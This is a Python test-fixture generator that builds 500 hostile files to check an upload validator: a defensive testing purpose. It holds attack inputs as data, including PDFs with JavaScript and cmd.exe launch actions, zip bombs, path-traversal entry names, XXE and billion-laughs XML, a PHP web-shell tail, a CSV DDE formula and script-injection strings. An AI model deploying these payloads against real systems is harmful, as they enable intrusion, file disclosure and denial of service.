"""Five hundred files that nobody should have to trust, made from a fixed seed: each with its name and what it is."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

import pikepdf
from PIL import Image

from assessment.evidence_files.rules import MAX_BYTES

TOTAL = 500
TYPES = ("docx", "xlsx", "pptx")
_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


class Hostile(NamedTuple):
    """`fate`: refused, or harmless: it may be stored, for it is only ever sent as a download that nothing runs."""

    name: str
    data: bytes
    family: str
    fate: str = "refused"


def make_office(kind: str, *more: tuple[str, bytes], content_type: str = "", main: bytes = b"<a/>") -> bytes:
    part, type_ = _MAIN[kind]
    listed = f'<Types><Override PartName="/{part}" ContentType="application/x.{content_type or type_}"/></Types>'
    return _zip(("[Content_Types].xml", listed.encode()), (part, main), *more)


def make_pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **how: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        pdf.save(out, **({} if "encryption" in how else {"deterministic_id": True}) | how)
    return out.getvalue()


def make_image(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, {"jpg": "JPEG", "png": "PNG", "webp": "WEBP"}[kind])
    return out.getvalue()


def good_files() -> dict[str, bytes]:
    """One of each type, as people send them."""
    office = {kind: make_office(kind) for kind in TYPES}
    images = {kind: make_image(kind) for kind in ("png", "jpg", "webp")}
    return {"pdf": make_pdf(), **images, **office, "csv": "项目,值\n一,1\n".encode("gb18030"), "txt": b"A note\n"}


def hostile_files() -> Iterator[Hostile]:
    """TOTAL files: every trick by name, then good files spoilt at random until there are enough."""
    tricks = [*_mistyped(), *_wrong_endings(), *_pdfs(), *_archives(), *_images(), *_texts(), *_oversized()]
    yield from tricks
    yield from _spoilt(random.Random(39116), TOTAL - len(tricks))  # noqa: S311 - the same files at each run


def _mistyped() -> Iterator[Hostile]:
    """Every type under the ending of every other."""
    good = good_files()
    for ending in good:
        for other, data in good.items():
            if other != ending and {other, ending} != {"csv", "txt"}:
                yield Hostile(f"{other}.{ending}", data, "mistyped")


def _wrong_endings() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    endings = "svg html htm xhtml xml js exe dll sh bat ps1 jar zip rar 7z gz tar iso lnk url scr com msi py php jsp"
    for ending in (
        *endings.split(),
        *"docm xlsm pptm dotm xltm xlam xlsb doc xls ppt rtf odt swf hta heic gif".split(),
    ):
        yield Hostile(f"file.{ending}", svg, "ending")
    for name in ("noending", ".pdf.exe", "a.pdf ", "a.pdf\0.exe", "....", "", "x.PDF.html"):
        yield Hostile(name, make_pdf(), "ending")
    for ending in ("png", "jpg", "webp", "pdf", "docx"):
        yield Hostile(f"picture.{ending}", svg, "svg")


def _pdfs() -> Iterator[Hostile]:
    name, text = pikepdf.Name, pikepdf.String
    dictionary = pikepdf.Dictionary
    actions = {
        "script": dictionary(S=name.JavaScript, JS=text("app.alert(1)")),
        "launch": dictionary(S=name.Launch, F=text("cmd.exe")),
        "send": dictionary(S=name.SubmitForm, F=text("http://x.example")),
        "import": dictionary(S=name.ImportData, F=text("x.fdf")),
        "elsewhere": dictionary(S=name.GoToE, F=text("x.pdf")),
    }
    for word, action in actions.items():
        for place in ("OpenAction", "AA"):
            value = dictionary(WC=action) if place == "AA" else action

            def act(pdf: pikepdf.Pdf, place: str = place, value: pikepdf.Object = value) -> None:
                pdf.Root[f"/{place}"] = value

            yield Hostile(f"{word}-{place}.pdf", make_pdf(act), "active pdf")
            objects = pikepdf.ObjectStreamMode.generate
            yield Hostile(f"{word}-{place}-packed.pdf", make_pdf(act, object_stream_mode=objects), "active pdf")

    def attach(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["evil.exe"] = b"MZ"

    def form(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = dictionary(XFA=pdf.make_stream(b"<xdp/>"))

    yield Hostile("attached.pdf", make_pdf(attach), "active pdf")
    yield Hostile("xfa.pdf", make_pdf(form), "active pdf")
    for owner, user in (("o", "u"), ("o", ""), ("", "u")):
        for strength in (4, 6):
            how = pikepdf.Encryption(owner=owner, user=user, R=strength)
            yield Hostile(f"locked-{owner}{user}{strength}.pdf", make_pdf(encryption=how), "encrypted pdf")
    yield Hostile("html.pdf", b"<html><script>alert(1)</script>" + make_pdf(), "polyglot")
    yield Hostile("zip.pdf", make_pdf() + make_office("docx"), "polyglot")
    yield Hostile("tail.pdf", make_pdf() + b"<script>alert(1)</script>", "polyglot", "harmless")
    yield Hostile("no-pages.pdf", b"%PDF-1.7\n%%EOF", "damaged")


def _archives() -> Iterator[Hostile]:
    for kind in TYPES:
        part = _MAIN[kind][0]
        folder = part.split("/")[0]
        yield Hostile(f"bomb.{kind}", make_office(kind, (f"{folder}/b.xml", bytes(150_000_000))), "bomb")
        yield Hostile(f"many.{kind}", make_office(kind, *((f"x/{n}", b"") for n in range(2_001))), "bomb")
        yield Hostile(f"lie.{kind}", _with_false_size(make_office(kind, ("x/b", bytes(900_000))), 10), "bomb")
        yield Hostile(f"big-lie.{kind}", _with_false_size(make_office(kind, ("x/b", b"1")), 0xFFFFFFF0), "bomb")
        for word, mark in (("macro", f"{folder}/vbaProject.bin"), ("MACRO", f"{folder}/VBAPROJECT.BIN")):
            yield Hostile(f"{word}.{kind}", make_office(kind, (mark, b"x")), "macro")
        yield Hostile(f"sheet.{kind}", make_office(kind, ("xl/macrosheets/s.xml", b"<a/>")), "macro")
        yield Hostile(f"control.{kind}", make_office(kind, (f"{folder}/activeX/a.xml", b"<a/>")), "macro")
        enabled = "ms-word.document.macroEnabled.main+xml"
        yield Hostile(f"enabled.{kind}", make_office(kind, content_type=enabled), "macro")
        for bad in ("../../etc/passwd", "/etc/passwd", "a/../../b", "C:/windows/x", "a\\..\\b", "x\0y"):
            yield Hostile(f"path.{kind}", _renamed(kind, bad), "path")
        yield Hostile(f"nested.{kind}", make_office(kind, ("x/inner.zip", make_office(kind))), "nested")
        yield Hostile(f"hidden.{kind}", make_office(kind, ("x/inner.png", make_office(kind))), "nested")
        yield Hostile(f"object.{kind}", make_office(kind, (f"{folder}/embeddings/o.bin", b"x")), "nested")
        yield from _markup(kind)
        yield Hostile(f"front.{kind}", b"MZ" + make_office(kind), "polyglot")
        yield Hostile(f"gap.{kind}", b"PK\x03\x04<script>" + make_office(kind), "polyglot")
        yield Hostile(f"locked.{kind}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "encrypted office")
        yield Hostile(f"bare.{kind}", _zip(("a.txt", b"a")), "mistyped")


def _markup(kind: str) -> Iterator[Hostile]:
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    outside = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    elsewhere = b'<!DOCTYPE a SYSTEM "http://x.example/x.dtd"><a/>'
    for word, text in (("laughs", laughs), ("outside", outside), ("elsewhere", elsewhere)):
        yield Hostile(f"{word}.{kind}", make_office(kind, main=text), "xml")
    yield Hostile(f"broken.{kind}", make_office(kind, main=b"<a><b></a>"), "xml")


def _images() -> Iterator[Hostile]:
    for kind in ("png", "jpg", "webp"):
        good = make_image(kind)
        yield Hostile(f"tail.{kind}", good + b"<?php system($_GET[1]); ?>", "polyglot", "harmless")
        yield Hostile(f"zip.{kind}", good + make_office("docx"), "polyglot", "harmless")
        yield Hostile(f"short.{kind}", good[: len(good) // 2], "damaged")
    yield Hostile("wide.png", _png(30_000, 30_000), "bomb")
    yield Hostile("endless.png", _png(2**31 - 1, 2**31 - 1), "bomb")
    comment = Image.new("RGB", (4, 4)), io.BytesIO()
    comment[0].save(comment[1], "JPEG", comment=b"<script>alert(1)</script>")
    yield Hostile("comment.jpg", comment[1].getvalue(), "polyglot", "harmless")


def _texts() -> Iterator[Hostile]:
    for ending in ("txt", "csv"):
        yield Hostile(f"nul.{ending}", b"a\0b", "text")
        yield Hostile(f"bell.{ending}", b"a\x07\x1b[31m", "text")
        yield Hostile(f"utf16.{ending}", "text".encode("utf-16"), "text")
        yield Hostile(f"bytes.{ending}", bytes(range(255, 127, -1)), "text")
        yield Hostile(f"html.{ending}", b"<script>alert(1)</script>", "text", "harmless")
        yield Hostile(f"formula.{ending}", b"=cmd|' /C calc'!A0", "text", "harmless")
        yield Hostile(f"\u202egpj.{ending}", b"a name that reads backwards", "text", "harmless")
        yield Hostile(f"../../etc/passwd.{ending}", b"a name with a way out", "text", "harmless")
        yield Hostile(f"{'n' * 250}.{ending}", b"a long name", "text", "harmless")
        yield Hostile(f"<script>alert(1)</script>.{ending}", b"a name with markup", "text", "harmless")


def _oversized() -> Iterator[Hostile]:
    for ending in ("pdf", "txt", "png"):
        yield Hostile(f"big.{ending}", b"%PDF-" + bytes(MAX_BYTES), "oversized")
        yield Hostile(f"empty.{ending}", b"", "oversized")


def _spoilt(chance: random.Random, count: int) -> Iterator[Hostile]:
    """Cut short, with bits turned, with a piece taken out or put in: refused, or still a file of its type."""
    good = {kind: data for kind, data in good_files().items() if kind not in {"txt", "csv"}}
    for number in range(count):
        kind = chance.choice(sorted(good))
        data = bytearray(good[kind])
        how = chance.choice(("cut", "turn", "drop", "fill"))
        place = chance.randrange(1, len(data))
        if how == "cut":
            del data[place:]
        elif how == "turn":
            for _ in range(chance.randrange(1, 20)):
                data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        elif how == "drop":
            del data[place : place + chance.randrange(1, 60)]
        else:
            data[place:place] = chance.randbytes(chance.randrange(1, 60))
        yield Hostile(f"{how}-{number}.{kind}", bytes(data), "spoilt", "harmless")


def _zip(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)  # without the time of day
    return out.getvalue()


def _renamed(kind: str, name: str) -> bytes:
    """An entry under a name that the library itself would not write."""
    stand_in = "n" * len(name)
    return make_office(kind, (stand_in, b"x")).replace(stand_in.encode(), name.encode())


def _with_false_size(data: bytes, size: int) -> bytes:
    """The last entry of the directory claims another size than it has."""
    place = data.rindex(b"PK\x01\x02") + 24
    return data[:place] + struct.pack("<L", size) + data[place + 4 :]


def _png(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )
